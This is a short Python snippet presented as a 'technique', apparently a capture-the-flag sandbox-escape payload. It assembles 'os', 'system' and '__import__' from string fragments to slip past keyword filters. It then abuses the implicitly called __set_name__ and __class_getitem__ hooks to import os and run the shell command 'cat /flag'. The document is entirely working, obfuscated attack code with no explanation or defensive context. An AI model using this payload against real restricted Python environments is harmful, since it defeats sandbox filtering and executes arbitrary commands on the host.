# technique: __class_getitem__ and __set_name__ hooks fire implicitly, pulling a module runner with computed names
N = {"m": "".join(["o", "s"]), "f": "sy" + "stem", "i": "_" * 2 + "imp" + "ort" + "_" * 2}

class Hook:
    def __set_name__(self, owner, name):
        bi = self.__set_name__.__globals__["_" * 2 + "bui" + "ltins" + "_" * 2]
        bi = bi if isinstance(bi, dict) else bi.__dict__
        owner.mod = bi[N["i"]](N["m"])

class Box:
    x = Hook()
    def __class_getitem__(cls, item):
        return getattr(cls.mod, N["f"])(item)

Box["c" + "at /f" + "lag"]
